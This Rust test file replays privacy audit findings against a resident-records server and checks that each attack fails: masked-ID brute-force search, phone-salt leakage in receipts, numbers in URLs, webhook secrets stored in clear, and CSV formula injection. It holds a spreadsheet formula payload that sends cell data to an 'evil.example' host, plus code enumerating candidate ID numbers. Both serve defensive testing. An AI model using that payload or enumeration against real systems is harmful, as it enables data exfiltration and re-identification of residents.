//! Issue 11's findings on personal data, each attack replayed against the real server on SQLite
//! and PostgreSQL and shown to fail: recovering masked numbers by search (1), opening a
//! reporter's phone from a receipt (3), numbers in URLs and `Referer` (9), webhook credentials
//! in clear (15), formulas in CSV exports and exports nobody audits (17).

use crate::app::{GRID_ORIGINS, OWN_GRID, TestApp, resident, spawn_app};
use gongzhi_domain::codes::IdNumber;
use gongzhi_ledger::{Receipt, Verifier};
use gongzhi_server::ledger::sequencer;
use gongzhi_store::records::BuildingRecord;
use gongzhi_store::{WebhookEvent, now_millis};
use gongzhi_testkit::backends;
use serde_json::{Value, json};
use sha2::Digest;

async fn post_json(app: &TestApp, who: &str, path: &str, body: Value) -> (u16, Value) {
    let r = app
        .client
        .post(app.url(path))
        .bearer_auth(&app.tokens[who])
        .json(&body)
        .send()
        .await
        .unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

async fn get_json(app: &TestApp, who: &str, path: &str) -> (u16, Value) {
    let r = app.get_as(who, path).await;
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

fn search(id_number: &str, reason: &str) -> Value {
    json!({ "id_number": id_number, "reason": reason })
}

/// The ID numbers the old mask (first 6, last 4) and the listed birth year left possible for
/// `id`: every month and day of that year whose check digit matches — about 33.
fn candidates_under_the_old_mask(id: &IdNumber) -> Vec<String> {
    let s = id.as_str();
    let (year, _, _) = id.birth_date();
    let mut out = Vec::new();
    for month in 1..=12u8 {
        for day in 1..=31u8 {
            let guess = format!("{}{year}{month:02}{day:02}{}", &s[..6], &s[14..]);
            if IdNumber::parse(&guess).is_ok() {
                out.push(guess);
            }
        }
    }
    out
}

async fn own_resident_id(app: &TestApp) -> i64 {
    let hid = app.household_id(&format!("{OWN_GRID}-001-101")).await;
    app.store
        .residents(&gongzhi_store::ResidentFilter {
            household_id: Some(hid),
            ..Default::default()
        })
        .await
        .unwrap()[0]
        .id
}

/// Finding 1. A grid worker without the unmask grant tries every candidate the mask and the
/// birth year leave: each search is refused alike (403, in both languages), so no answer
/// tells the right guess, and nothing was disclosed to log. A community worker with the grant
/// finds the resident by number after giving a reason, and the access is logged — a hit in
/// the personal-data access log, every search (hits or not) in the audit log.
#[tokio::test]
async fn search_by_number_is_an_unmask_refused_to_others_and_logged() {
    for backend in backends() {
        let app = spawn_app(backend).await;
        let rid = own_resident_id(&app).await;
        let plain = resident(0, "");
        let id = plain.id_number;
        let guesses = candidates_under_the_old_mask(&id);
        assert!(
            (20..60).contains(&guesses.len()) && guesses.contains(&id.as_str().to_string()),
            "{} candidates",
            guesses.len()
        );
        let mut answers = std::collections::BTreeSet::new();
        for guess in &guesses {
            let (status, v) = post_json(
                &app,
                "grid",
                "/api/v1/residents/search",
                search(guess, "核实"),
            )
            .await;
            assert_eq!(status, 403, "{backend:?} {guess}: {v}");
            answers.insert(v.to_string());
        }
        assert_eq!(
            answers.len(),
            1,
            "{backend:?}: the answers differ: {answers:?}"
        );
        let (_, v) = post_json(
            &app,
            "grid",
            "/api/v1/residents/search",
            json!({"phone": plain.phone.as_ref().unwrap().as_str(), "reason": "核实"}),
        )
        .await;
        assert_eq!(v["error"]["code"], "forbidden", "{v}");
        assert!(
            v["error"]["message"]
                .as_str()
                .unwrap()
                .contains("查看完整号码")
                && v["error"]["message_en"]
                    .as_str()
                    .unwrap()
                    .contains("unmask permission"),
            "{v}"
        );
        // The old route is no oracle either: a number in its query string is refused.
        let (status, v) = get_json(
            &app,
            "grid",
            &format!("/api/v1/residents?id_number={}", id.as_str()),
        )
        .await;
        assert_eq!(status, 400, "{v}");
        assert_eq!(v["error"]["field"], "id_number");
        // A street account without the grant is refused too; the list shows the shorter mask.
        let (status, _) = post_json(
            &app,
            "street",
            "/api/v1/residents/search",
            search(id.as_str(), "核实"),
        )
        .await;
        assert_eq!(status, 403);
        let (_, v) = get_json(&app, "grid", &format!("/api/v1/residents/{rid}")).await;
        assert_eq!(v["id_number"], id.mask());
        assert!(
            v["id_number"]
                .as_str()
                .unwrap()
                .ends_with(&id.as_str()[16..])
        );
        assert!(
            !v["id_number"]
                .as_str()
                .unwrap()
                .contains(&id.as_str()[14..])
        );
        assert!(
            app.store
                .pii_access_entries(None, 10)
                .await
                .unwrap()
                .is_empty()
        );

        // Allowed: a reason is required, then the hit is logged and the answer stays masked.
        let (status, v) = post_json(
            &app,
            "community",
            "/api/v1/residents/search",
            search(id.as_str(), " "),
        )
        .await;
        assert_eq!(
            (status, v["error"]["field"].as_str()),
            (400, Some("reason"))
        );
        let (status, v) = post_json(
            &app,
            "community",
            "/api/v1/residents/search",
            search(id.as_str(), "上门核实身份"),
        )
        .await;
        assert_eq!(status, 200, "{backend:?} {v}");
        assert_eq!(v["total"], 1);
        assert_eq!(v["items"][0]["id"], rid);
        assert_eq!(v["items"][0]["id_number"], id.mask());
        let log = app.store.pii_access_entries(Some(rid), 10).await.unwrap();
        assert_eq!(log.len(), 1, "{backend:?}");
        assert_eq!(
            (
                log[0].account_name.as_str(),
                log[0].fields.as_str(),
                log[0].reason.as_str()
            ),
            ("community", "search:id_number", "上门核实身份")
        );
        // A miss is logged as a search, without the number.
        let (status, v) = post_json(
            &app,
            "community",
            "/api/v1/residents/search",
            json!({"phone": "13912345678", "reason": "核对来电"}),
        )
        .await;
        assert_eq!((status, v["total"].as_i64()), (200, Some(0)));
        let audit = app.store.audit_entries(20).await.unwrap();
        let searches: Vec<_> = audit.iter().filter(|e| e.action == "pii.search").collect();
        assert_eq!(searches.len(), 2, "{backend:?}");
        assert_eq!(searches[0].subject, "search:phone");
        assert!(
            searches[0].detail.starts_with("matches=0"),
            "{}",
            searches[0].detail
        );
        assert!(
            audit
                .iter()
                .all(|e| !e.detail.contains("13912345678") && !e.detail.contains(id.as_str()))
        );
    }
}

/// Finding 9. Full numbers never travel in a URL — the list refuses them in its query, the
/// page searches by POST and its links carry no number — and no response lets a URL of ours
/// reach another site in `Referer`.
#[tokio::test]
async fn numbers_stay_out_of_urls_and_referrers() {
    for backend in backends() {
        let app = spawn_app(backend).await;
        let plain = resident(0, "");
        let phone = plain.phone.as_ref().unwrap().as_str().to_string();
        let r = app
            .get_as("community", &format!("/residents?phone={phone}"))
            .await;
        assert_eq!(r.status(), 400, "{backend:?}");
        assert!(r.text().await.unwrap().contains("不能放在网址里"));

        // The page offers the search by number as a POST form, to those who may make it.
        let page = app
            .get_as("community", "/residents?per_page=1")
            .await
            .text()
            .await
            .unwrap();
        assert!(page.contains(r#"method="post" action="/residents/search""#));
        assert!(
            !page.contains("id_number=") && !page.contains("phone="),
            "{page}"
        );
        let page = app.get_as("grid", "/residents").await.text().await.unwrap();
        assert!(!page.contains("/residents/search"));

        let r = app
            .client
            .post(app.url("/residents/search"))
            .bearer_auth(&app.tokens["community"])
            .form(&[
                ("csrf", ""),
                ("id_number", ""),
                ("phone", phone.as_str()),
                ("reason", "核对来电"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{backend:?}");
        let body = r.text().await.unwrap();
        assert!(body.contains("居民0") && body.contains("已记入个人信息访问日志"));
        assert!(!body.contains(&phone), "the page repeats the full number");
        let r = app
            .client
            .post(app.url("/residents/search"))
            .bearer_auth(&app.tokens["grid"])
            .form(&[("csrf", ""), ("phone", phone.as_str()), ("reason", "核对")])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403);

        // Every kind of response carries the policy: JSON, a page, an error, an asset, the log.
        for path in [
            "/api/v1/me",
            "/residents",
            "/no/such/page",
            "/assets/app.css",
            "/ledger/vkey",
        ] {
            let r = app.get_as("community", path).await;
            assert_eq!(
                r.headers()
                    .get("referrer-policy")
                    .map(|v| v.to_str().unwrap()),
                Some("same-origin"),
                "{backend:?} {path}"
            );
        }
        let r = app.client.get(app.url("/login")).send().await.unwrap();
        assert_eq!(r.headers()["referrer-policy"], "same-origin");
    }
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

fn salted(salt: &[u8], text: &str) -> String {
    let mut h = sha2::Sha256::new();
    h.update(salt);
    h.update(text.as_bytes());
    let hex: String = h.finalize().iter().map(|b| format!("{b:02x}")).collect();
    format!("sha256:{hex}")
}

/// Finding 3. A supervisor (and every other reader but the reporter's own account) gets the
/// receipt of a report without the salt of the reporter's phone, so the phone's hash cannot be
/// matched against the numbers it could be; the receipt still verifies and the description
/// still opens. The reporter's own account opens the phone.
#[tokio::test]
async fn receipts_withhold_the_reporter_phone_salt_from_who_may_not_see_it() {
    const PHONE: &str = "13912340001";
    for backend in backends() {
        let app = spawn_app(backend).await;
        let (_, lon, lat) = GRID_ORIGINS[0];
        let (status, v) = post_json(
            &app,
            "resident",
            "/api/v1/cases",
            json!({"category": "E0102", "lon": lon + 0.0004, "lat": lat + 0.0004,
                   "address": "测试路1号", "description": "门口垃圾三天没人清运",
                   "reporter_phone": PHONE}),
        )
        .await;
        assert_eq!(status, 201, "{v}");
        let id = v["case"]["id"].as_i64().unwrap();
        let code = v["lookup_code"].as_str().unwrap().to_string();
        sequencer::tick(&app.state).await.unwrap();
        let vkey = app
            .client
            .get(app.url("/ledger/vkey"))
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let verifier = Verifier::parse(vkey.trim()).unwrap();

        let path = format!("/api/v1/cases/{id}/receipt?seq=1");
        let public = format!("/api/v1/public/cases/{code}/receipt?seq=1");
        for (who, path) in [
            ("supervisor", path.as_str()),
            ("admin", path.as_str()),
            ("community", path.as_str()),
            ("street", public.as_str()),
        ] {
            let (status, body) = get_json(&app, who, path).await;
            assert_eq!(status, 200, "{backend:?} {who}: {body}");
            let entry: Value = serde_json::from_str(body["entry"].as_str().unwrap()).unwrap();
            let hash = entry["data"]["reporter_phone"].as_str().unwrap();
            assert!(hash.starts_with("sha256:"));
            // The attack: with the salt, try every number. Without it there is nothing to try.
            assert!(
                body["openings"].get("data.reporter_phone").is_none(),
                "{backend:?} {who} got the phone's salt"
            );
            // A lookup code opens only the description (finding 7, decision 012).
            let withheld = if path == public {
                json!(["data.address", "data.location", "data.reporter_phone"])
            } else {
                json!(["data.reporter_phone"])
            };
            assert_eq!(body["withheld"], withheld, "{backend:?} {who}");
            let salt = unhex(body["openings"]["data.description"].as_str().unwrap());
            assert_eq!(
                entry["data"]["description"],
                salted(&salt, "门口垃圾三天没人清运")
            );
            let receipt = Receipt::parse(body["receipt"].as_str().unwrap()).unwrap();
            receipt
                .verify(
                    receipt.extra.as_deref().unwrap(),
                    std::slice::from_ref(&verifier),
                )
                .unwrap();
        }

        let (status, body) = get_json(&app, "resident", &path).await;
        assert_eq!(status, 200, "{body}");
        assert_eq!(body["withheld"], json!([]));
        let entry: Value = serde_json::from_str(body["entry"].as_str().unwrap()).unwrap();
        let salt = unhex(body["openings"]["data.reporter_phone"].as_str().unwrap());
        assert_eq!(entry["data"]["reporter_phone"], salted(&salt, PHONE));
    }
}

/// Finding 15. A DingTalk robot's token (in its URL) and its signing secret are nowhere in the
/// webhooks table in clear; the list shows the URL redacted; the worker, claiming a delivery,
/// gets both back to sign and send.
#[tokio::test]
async fn webhook_secrets_and_robot_tokens_are_encrypted_at_rest() {
    const TOKEN: &str = "d1n9ta1kr0b0tt0ken0000000000001";
    const SECRET: &str = "SECd1n9ta1k0000000000000000000001";
    for backend in backends() {
        let app = spawn_app(backend).await;
        let url = format!("https://oapi.dingtalk.com/robot/send?access_token={TOKEN}");
        let (status, v) = post_json(
            &app,
            "admin",
            "/api/v1/webhooks",
            json!({"name": "值班群", "url": url, "format": "dingtalk", "secret": SECRET,
                   "events": ["overdue"]}),
        )
        .await;
        assert_eq!(status, 201, "{backend:?} {v}");

        // The attack: read the database.
        use sqlx::Row;
        let rows = sqlx::query("SELECT * FROM webhooks")
            .fetch_all(app.store.pool())
            .await
            .unwrap();
        assert_eq!(rows.len(), 1);
        for i in 0..rows[0].len() {
            let bytes = rows[0]
                .try_get::<Option<String>, _>(i)
                .ok()
                .flatten()
                .map(String::into_bytes)
                .or_else(|| rows[0].try_get::<Option<Vec<u8>>, _>(i).ok().flatten())
                .unwrap_or_default();
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains(TOKEN) && !text.contains(SECRET),
                "{backend:?}: column {i} holds a credential: {text}"
            );
        }
        let (_, listed) = get_json(&app, "admin", "/api/v1/webhooks").await;
        assert_eq!(
            listed[0]["url"],
            "https://oapi.dingtalk.com/robot/send?access_token=…"
        );
        assert_eq!(listed[0]["has_secret"], true);
        assert!(!listed.to_string().contains(SECRET));

        app.store
            .enqueue_webhook_deliveries(WebhookEvent::Overdue, 1, "{}")
            .await
            .unwrap();
        let due = app.store.due_deliveries(now_millis(), 10).await.unwrap();
        assert_eq!(due.len(), 1, "{backend:?}");
        assert_eq!(
            (due[0].url.as_str(), due[0].secret.expose()),
            (url.as_str(), SECRET)
        );
    }
}

/// Finding 17. A building address typed as a formula comes out of the CSV export as text (a
/// leading `'`), and every export — CSV, xlsx, GeoJSON — is on the audit log before it is
/// sent: who, what kind, which region, how many rows.
#[tokio::test]
async fn csv_exports_neutralise_formulas_and_every_export_is_audited() {
    const EVIL: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
    for backend in backends() {
        let app = spawn_app(backend).await;
        let (_, lon, lat) = GRID_ORIGINS[0];
        app.store
            .import_buildings(&[BuildingRecord {
                code: format!("{OWN_GRID}-002"),
                grid: gongzhi_domain::codes::GridCode::parse(OWN_GRID).unwrap(),
                name: "-2+3".into(),
                address: EVIL.into(),
                lon: lon + 0.0002,
                lat: lat + 0.0002,
                floors: 3,
            }])
            .await
            .unwrap();
        let r = app
            .get_as("community", "/api/v1/exports/buildings?format=csv")
            .await;
        assert_eq!(r.status(), 200, "{backend:?}");
        let bytes = r.bytes().await.unwrap();
        let text = String::from_utf8_lossy(&bytes);
        let mut cells = Vec::new();
        let mut reader =
            csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        for row in reader.records() {
            cells.extend(row.unwrap().iter().map(str::to_string));
        }
        assert!(cells.contains(&format!("'{EVIL}")), "{text}");
        assert!(cells.contains(&"'-2+3".to_string()), "{text}");
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']) && !cell.starts_with("-2"),
                "{backend:?}: runnable cell {cell:?}"
            );
        }

        for (who, path) in [
            ("community", "/api/v1/exports/residents?format=xlsx"),
            ("grid", "/api/v1/exports/households?format=csv"),
            ("admin", "/api/v1/exports/grids"),
        ] {
            let r = app.get_as(who, path).await;
            assert_eq!(r.status(), 200, "{backend:?} {path}");
        }
        let audit = app.store.audit_entries(50).await.unwrap();
        let exports: Vec<(String, String, String)> = audit
            .iter()
            .filter(|e| e.action == "export")
            .map(|e| (e.actor_name.clone(), e.subject.clone(), e.detail.clone()))
            .collect();
        let expect = [
            ("admin", "grids", "region=all format=geojson rows=3"),
            (
                "grid",
                "households",
                "region=grid:320508019044001 format=csv rows=1",
            ),
            (
                "community",
                "residents",
                "region=area:320508019044 format=xlsx rows=2",
            ),
            (
                "community",
                "buildings",
                "region=area:320508019044 format=csv rows=3",
            ),
        ];
        assert_eq!(
            exports,
            expect.map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string())),
            "{backend:?}"
        );
    }
}
